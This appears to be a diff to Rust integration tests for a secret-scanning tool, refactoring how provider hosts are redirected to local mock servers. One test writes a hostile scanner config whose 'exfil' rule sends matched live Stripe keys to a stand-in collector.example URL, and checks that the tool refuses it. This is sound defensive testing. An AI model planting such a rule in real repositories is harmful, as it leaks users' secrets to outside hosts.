@@ -111,6 +111,13 @@ impl Server {
     }
 }
 
+/// The binary with providers' hosts mapped to local stand-ins (`host=URL,...`).
+fn stand_ins(overrides: impl AsRef<std::ffi::OsStr>) -> assert_cmd::Command {
+    let mut c = lh();
+    c.env("LEAKHOUND_VERIFY_OVERRIDE", overrides);
+    c
+}
+
 fn bearer(s: &Seen) -> String {
     s.header("authorization")
         .unwrap_or("")
@@ -177,11 +184,7 @@ fn every_answer_state_and_one_request_per_secret() {
         .map(|(i, k)| format!("KEY_{i} = \"{k}\"\n"))
         .collect();
     d.write("a/app.env", &env).write("b/copy.env", &env);
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("api.stripe.com={}", server.url()),
-        )
+    let out = stand_ins(format!("api.stripe.com={}", server.url()))
         .args(["scan", "--verify", "--show-secrets", "-f", "json"])
         .arg(d.path())
         .output()
@@ -216,11 +219,7 @@ fn every_answer_state_and_one_request_per_secret() {
     assert!(seen.iter().all(|s| s.method == "GET"));
 
     // --only-verified keeps the live ones; text marks them.
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("api.stripe.com={}", server.url()),
-        )
+    let out = stand_ins(format!("api.stripe.com={}", server.url()))
         .args(["scan", "--verify", "--only-verified"])
         .arg(d.path())
         .output()
@@ -236,11 +235,7 @@ fn nothing_is_sent_without_verify() {
     let server = stripe_server();
     let d = Dir::new();
     d.write("app.env", format!("KEY = \"{}\"\n", fake::stripe()));
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("api.stripe.com={}", server.url()),
-        )
+    let out = stand_ins(format!("api.stripe.com={}", server.url()))
         .args(["scan", "-f", "json"])
         .arg(d.path())
         .output()
@@ -258,11 +253,7 @@ fn a_hanging_provider_is_bounded_by_the_timeout() {
     let d = Dir::new();
     d.write("app.env", format!("KEY = \"{}\"\n", fake::stripe()));
     let started = Instant::now();
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("api.stripe.com={}", server.url()),
-        )
+    let out = stand_ins(format!("api.stripe.com={}", server.url()))
         .args(["scan", "--verify", "--verify-timeout", "1", "-f", "json"])
         .arg(d.path())
         .output()
@@ -290,19 +281,15 @@ fn a_scanned_tree_cannot_choose_where_secrets_go() {
         "[[rules]]\nid = \"exfil\"\nregex = '''(sk_live_[A-Za-z0-9]+)'''\n\
          [rules.verify]\nurl = \"https://collector.example/{secret}\"\nvalid = [200]\n",
     );
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!(
-                "api.stripe.com={},collector.example={}",
-                server.url(),
-                evil.url()
-            ),
-        )
-        .args(["scan", "--verify", "-f", "json"])
-        .arg(d.path())
-        .output()
-        .unwrap();
+    let out = stand_ins(format!(
+        "api.stripe.com={},collector.example={}",
+        server.url(),
+        evil.url()
+    ))
+    .args(["scan", "--verify", "-f", "json"])
+    .arg(d.path())
+    .output()
+    .unwrap();
     assert_eq!(out.status.code(), Some(2));
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(
@@ -316,11 +303,7 @@ fn a_scanned_tree_cannot_choose_where_secrets_go() {
          [rules.verify]\nurl = \"https://collector.example/{secret}\"\nvalid = [200]\n",
     );
     std::fs::remove_file(d.join(".leakhound.toml")).unwrap();
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("collector.example={}", evil.url()),
-        )
+    let out = stand_ins(format!("collector.example={}", evil.url()))
         .args(["scan", "--verify", "--config"])
         .arg(d.join("ci.toml"))
         .arg(d.path())
@@ -339,11 +322,7 @@ fn a_scanned_tree_cannot_choose_where_secrets_go() {
         "[extend]\nuse_default = true\n[[rules]]\nid = \"stripe-secret-key\"\n\
          regex = '''(sk_live_[A-Za-z0-9]+)'''\nkeywords = [\"sk_live_\"]\n",
     );
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("api.stripe.com={}", server.url()),
-        )
+    let out = stand_ins(format!("api.stripe.com={}", server.url()))
         .args(["scan", "--verify", "-f", "json"])
         .arg(d.path())
         .output()
@@ -358,11 +337,7 @@ fn a_scanned_tree_cannot_choose_where_secrets_go() {
 fn overrides_only_reach_this_machine_and_the_hook_never_verifies() {
     let d = Dir::new();
     d.write("app.env", format!("KEY = \"{}\"\n", fake::stripe()));
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            "api.stripe.com=http://192.0.2.1:80",
-        )
+    let out = stand_ins("api.stripe.com=http://192.0.2.1:80")
         .args(["scan", "--verify"])
         .arg(d.path())
         .output()
@@ -407,11 +382,7 @@ fn aws_keys_are_paired_and_signed_not_sent() {
         "deploy.sh",
         format!("export AWS_ACCESS_KEY_ID={id}\nexport AWS_SECRET_ACCESS_KEY={secret}\n"),
     );
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("sts.amazonaws.com={}", server.url()),
-        )
+    let out = stand_ins(format!("sts.amazonaws.com={}", server.url()))
         // A proxy in the environment never carries a stand-in's traffic off the machine.
         .env("HTTPS_PROXY", "http://127.0.0.1:9")
         .env("HTTP_PROXY", "http://127.0.0.1:9")
@@ -455,11 +426,7 @@ fn a_config_named_on_the_command_line_may_verify_in_house_keys() {
     );
     let d = Dir::new();
     d.write("svc.yaml", "token: inhouse_Zq8Lm3Vt6Rw9Kp2Xc5Nb\n");
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("keys.corp.example={}", server.url()),
-        )
+    let out = stand_ins(format!("keys.corp.example={}", server.url()))
         .args(["scan", "--verify", "-f", "sarif", "--config"])
         .arg(cfg.join("inhouse.toml"))
         .arg(d.path())
@@ -486,11 +453,7 @@ fn history_verifies_each_distinct_secret_once() {
     }
     d.write("old.env", format!("OLD = \"{}\"\n", fake::stripe2()));
     d.commit_all("old key");
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("api.stripe.com={}", server.url()),
-        )
+    let out = stand_ins(format!("api.stripe.com={}", server.url()))
         .args(["history", "--verify", "-f", "json"])
         .arg(d.path())
         .output()
@@ -527,11 +490,7 @@ fn twilio_tokens_are_verified_with_the_account_sid_near_them() {
         "settings.py",
         format!("TWILIO_ACCOUNT_SID = \"{sid}\"\nTWILIO_AUTH_TOKEN = \"{token}\"\n"),
     );
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("api.twilio.com={}", server.url()),
-        )
+    let out = stand_ins(format!("api.twilio.com={}", server.url()))
         .args(["scan", "--verify", "-f", "json"])
         .arg(d.path())
         .output()
@@ -562,11 +521,7 @@ fn twilio_tokens_are_verified_with_the_account_sid_near_them() {
         format!("TWILIO_ACCOUNT_SID = \"{sid}\"\nTWILIO_AUTH_TOKEN = \"{token}\"\n"),
     );
     h.commit_all("token");
-    let out = lh()
-        .env(
-            "LEAKHOUND_VERIFY_OVERRIDE",
-            format!("api.twilio.com={}", server.url()),
-        )
+    let out = stand_ins(format!("api.twilio.com={}", server.url()))
         .args(["history", "--verify", "-f", "json"])
         .arg(h.path())
         .output()
